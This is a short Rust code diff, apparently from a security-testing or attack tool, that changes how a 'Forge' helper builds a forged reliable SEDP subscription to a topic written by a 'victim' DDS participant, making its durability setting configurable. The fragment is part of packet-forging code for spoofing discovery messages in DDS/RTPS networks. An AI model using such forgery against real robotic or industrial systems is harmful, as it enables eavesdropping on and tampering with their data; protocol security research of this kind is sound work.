@@ -91,12 +91,12 @@ impl Forge {
         self.data(to, from, number, &InlineQos::default(), &payload, out);
     }
 
-    /// The subscription of a reliable reader that wants the history of the topic that the victim writes.
-    pub(crate) fn subscription(&self, reader: EntityId, number: i64, topic: &str, out: &mut Vec<u8>) {
-        let guid = Guid::new(self.prefix, reader);
+    /// The subscription of the forged reader, which is reliable, to the topic that the victim writes.
+    pub(crate) fn subscription(&self, number: i64, topic: &str, durability: Durability, out: &mut Vec<u8>) {
+        let guid = Guid::new(self.prefix, self.reader);
         let mut subscription = SubscriptionData::new(guid, topic.to_owned(), self.type_name.clone());
         subscription.qos.reliability = Reliability::RELIABLE;
-        subscription.qos.durability = Durability::TransientLocal;
+        subscription.qos.durability = durability;
         let mut payload = Vec::new();
         subscription.emit(&mut payload);
         let (to, from) = (EntityId::SEDP_SUBSCRIPTIONS_READER, EntityId::SEDP_SUBSCRIPTIONS_WRITER);
